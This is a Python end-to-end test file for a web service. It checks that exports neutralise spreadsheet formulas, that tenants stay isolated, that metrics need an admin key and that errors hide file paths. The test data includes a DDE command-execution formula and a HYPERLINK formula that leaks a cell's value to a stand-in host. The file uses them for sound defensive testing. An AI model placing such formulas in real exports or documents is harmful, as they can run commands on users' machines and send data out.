"""Issue 11 on the running service, on SQLite and on PostgreSQL: exports carry data, never
formulas; shortlists and review exclusions are a chain's own (404 like an unknown id); no cache
keeps shortlists; filter values are capped; /metrics needs an admin key; /ready shows no paths."""

from __future__ import annotations

import csv
import http.client
import io
import json
import os
import shutil
import socket
import time
import zipfile

import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from matcher.export import FORMULA_START
from matcher.store.models import ShortlistItem
from service.app import create_app
from tests.service.conftest import service_settings, wait_ready
from tests.service.test_db_outage import served
from tests.service.test_api import assert_error, review, shortlist
from tests.service.test_hot_swap import publish_copy

pytestmark = pytest.mark.e2e

COMMAND = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://x/?x="&A2,"click")'


def test_exports_write_text_as_data_never_formulas(service):
    s = shortlist(service, top=3, title=HYPERLINK)
    a, b, c = s["items"]
    assert review(service, s, a, verdict="approve", comment=COMMAND).status_code == 200
    assert review(service, s, c, verdict="defer", comment="@SUM(1+9)").status_code == 200
    # Source data as a shortlist freezes it: a firm whose name starts with '=', and a negative score.
    with service.store.write() as session:
        session.execute(sa.update(ShortlistItem).where(ShortlistItem.id == b["item_id"]).values(name="=1+2", score=-0.125))
    path = f"/v1/shortlists/{s['shortlist_id']}/export"

    response = service.get(f"{path}?format=csv", "leader")
    assert response.status_code == 200 and response.headers["cache-control"] == "no-store"
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert all(not cell.startswith(FORMULA_START) for row in rows for cell in row if not _number(cell)), rows
    by_id = {row[1]: dict(zip(rows[0], row)) for row in rows[1:]}
    assert by_id[a["enterprise_id"]]["comment"] == "'" + COMMAND  # neutralised, still readable
    assert by_id[c["enterprise_id"]]["comment"] == "'@SUM(1+9)"
    assert by_id[b["enterprise_id"]]["name"] == "'=1+2"
    assert by_id[b["enterprise_id"]]["score"] == "-0.125"  # a number, not text

    response = service.get(f"{path}?format=xlsx", "leader")
    assert response.status_code == 200 and response.headers["cache-control"] == "no-store"
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in x or "<f " in x for x in sheets)  # no formula element anywhere
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook["shortlist"]
    header = [cell.value for cell in sheet[1]]
    cells = {sheet.cell(r, 2).value: {h: sheet.cell(r, i + 1) for i, h in enumerate(header)} for r in range(2, sheet.max_row + 1)}
    for cell in (cells[a["enterprise_id"]]["comment"], cells[b["enterprise_id"]]["name"]):
        assert cell.data_type == "s" and cell.quotePrefix, cell.value
    assert cells[a["enterprise_id"]]["comment"].value == COMMAND  # the text itself, shown as text
    assert cells[b["enterprise_id"]]["name"].value == "=1+2"
    score = cells[b["enterprise_id"]]["score"]
    assert score.data_type == "n" and score.value == -0.125
    about = {row[0].value: row[1] for row in workbook["about"].iter_rows()}
    assert about["title"].value == HYPERLINK and about["title"].data_type == "s"


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_shortlist_responses_are_not_cached(service):
    s = shortlist(service, top=1)
    item = s["items"][0]
    created = service.post("/v1/shortlists", "staff", json={"gap_id": service.gap(), "top": 1})
    responses = [created, service.get(f"/v1/shortlists/{s['shortlist_id']}", "leader"), service.get("/v1/shortlists", "leader"),
                 review(service, s, item, verdict="defer")]
    for response in responses:
        assert response.status_code in (200, 201) and response.headers["cache-control"] == "no-store", response.request.url


def test_another_chains_shortlists_and_exclusions_are_404_like_unknown_ids(service):
    gap = service.gap()
    s = shortlist(service, top=2)
    sid, item = s["shortlist_id"], s["items"][0]
    unknown = assert_error(service.get("/v1/shortlists/99999998", "other_leader"), 404, "not_found")
    for response in (service.get(f"/v1/shortlists/{sid}", "other_leader"),
                     service.get(f"/v1/shortlists/{sid}/export", "other_leader"),
                     review(service, s, item, "other_leader", verdict="approve")):
        error = assert_error(response, 404, "not_found")
        assert error["message"] == unknown["message"].replace("99999998", str(sid))  # nothing tells them apart

    eid = item["enterprise_id"]
    assert review(service, s, item, verdict="reject", reason_code="not_chain_fit", comment="consumer apps").status_code == 200
    try:
        assert eid in [x["enterprise_id"] for x in service.get(f"/v1/gaps/{gap}/exclusions", "leader").json()["exclusions"]]
        assert_error(service.get(f"/v1/gaps/{gap}/exclusions", "other_leader"), 404, "not_found")
        assert_error(service.client.delete(f"/v1/gaps/{gap}/exclusions/{eid}", headers=service.auth("other_leader")),
                     404, "not_found")
        own = service.get(f"/v1/gaps/{gap}/why-not/{eid}", "leader").json()
        assert any("not a chain fit" in reason for reason in own["excluded_by"])
        other = service.get(f"/v1/gaps/{gap}/why-not/{eid}", "other_leader")
        assert other.status_code == 200
        told = json.dumps(other.json())
        assert "not a chain fit" not in told and "does not pass the filters" not in told and other.json()["rank"] is not None
    finally:
        lifted = service.client.delete(f"/v1/gaps/{gap}/exclusions/{eid}", headers=service.auth("leader"))
        assert lifted.status_code == 200


def test_filter_values_are_capped_naming_the_field(service):
    gap = service.gap()
    long_value, at_cap = "x" * 201, "x" * 200
    error = assert_error(service.get(f"/v1/gaps/{gap}/prospects?country={long_value}"), 422, "validation_error", "query.country")
    assert "200 characters" in error["fields"][0]["reason"]
    assert_error(service.get(f"/v1/gaps/{gap}/prospects?qualification=a&qualification={'q' * 60_000}"), 422,
                 "validation_error", "query.qualification")
    assert service.get(f"/v1/gaps/{gap}/prospects?country={at_cap}").status_code == 200
    assert_error(service.post("/v1/prospects/search", json={"text": "chips", "filters": {"province": [long_value]}}), 422,
                 "validation_error", "body.filters.province.0")
    assert_error(service.post("/v1/shortlists", json={"gap_id": gap, "filters": {"country": [long_value]}}), 422,
                 "validation_error", "body.filters.country.0")


def test_metrics_need_an_admin_key(service):
    assert_error(service.client.get("/metrics"), 401, "unauthorized")
    assert_error(service.get("/metrics", "staff"), 403, "forbidden")
    metrics = service.get("/metrics", "admin")
    assert metrics.status_code == 200 and "matcher_http_requests_total" in metrics.text


def test_a_version_that_fails_to_load_is_named_without_paths(service, service_workspace, database_url, tmp_path):
    home = tmp_path / "home"
    shutil.copytree(service_workspace.home, home, ignore=shutil.ignore_patterns("matcher.db*"))
    directory = home / "models" / "matcher"
    app = create_app(service_settings(home, database_url, service_metrics_public=True))
    with TestClient(app) as client:
        first = wait_ready(client)["version"]
        assert client.get("/metrics").status_code == 200  # MATCHER_SERVICE_METRICS_PUBLIC: no key asked
        broken = publish_copy(directory, first)
        index = next(p for p in (directory / broken).iterdir() if p.suffix == ".faiss")
        index.unlink()  # a hard link to the first version's file: replaced, not written through
        index.write_bytes(b"not an index")
        deadline = time.monotonic() + 30
        while broken not in (body := client.get("/ready").json()).get("message", "") and time.monotonic() < deadline:
            time.sleep(0.05)
        assert body["ready"] and body["version"] == first and broken in body["message"], body  # still serving
        reloaded = client.post("/v1/admin/reload", headers=service.auth("admin"), json={"version": broken})
        error = assert_error(reloaded, 503, "not_ready")
        assert reloaded.headers["retry-after"]
        for text in (body["message"], error["message"]):
            assert str(tmp_path) not in text and os.sep + "models" + os.sep not in text, text
            assert f"{broken}/{index.name}" in text  # which version and file, without where they live


def _raw_answer(address, request: bytes) -> tuple[int, dict, dict]:
    """Send raw bytes, read the whole answer (the server closes after a request it cannot parse)."""
    with socket.create_connection(address, timeout=30) as sock:
        sock.sendall(request)
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    headers = dict(line.lower().split(": ", 1) for line in lines[1:])
    return int(lines[0].split()[1]), headers, json.loads(body)


@pytest.mark.parametrize("protocol", ["ShapedHttpToolsProtocol", "ShapedH11Protocol"])
def test_requests_the_http_server_rejects_get_the_error_shape(service, protocol):
    gap = service.gap()
    key = service.keys["staff"]
    with served(service.app, http=f"service.errors:{protocol}", lifespan="off") as address:
        malformed = _raw_answer(address, b"GET /health HTTP/1.1\r\nHost: x\r\nno colon here\r\n\r\n")
        long_url = _raw_answer(address, f"GET /v1/gaps/{gap}/prospects?country={'x' * 66_000} HTTP/1.1\r\nHost: x\r\n"
                                        f"Authorization: Bearer {key}\r\n\r\n".encode())
        conn = http.client.HTTPConnection(*address, timeout=30)
        conn.request("GET", f"/v1/gaps/{gap}/prospects?country={'x' * 10_000}", headers=service.auth("staff"))
        response = conn.getresponse()
        capped = (response.status, response.getheader("x-request-id"), json.loads(response.read())["error"])
        conn.close()
    # Answered by the server before the app sees the request: JSON in the error shape all the same.
    status, headers, body = malformed
    assert status == 400 and headers["content-type"] == "application/json" and headers["connection"] == "close"
    assert body["error"]["code"] == "bad_request" and body["error"]["request_id"] == headers["x-request-id"]
    status, headers, body = long_url
    if protocol == "ShapedHttpToolsProtocol":  # httptools cannot parse a URL over 65,535 bytes
        assert status == 414 and body["error"]["code"] == "uri_too_long" and body["error"]["request_id"] == headers["x-request-id"]
    else:  # h11 parses it; the app answers, naming the field
        assert status == 422 and [f["field"] for f in body["error"]["fields"]] == ["query.country"]
    # A URL the server parses reaches the app, which names the field over its cap.
    status, rid, error = capped
    assert status == 422 and error["request_id"] == rid and [f["field"] for f in error["fields"]] == ["query.country"]
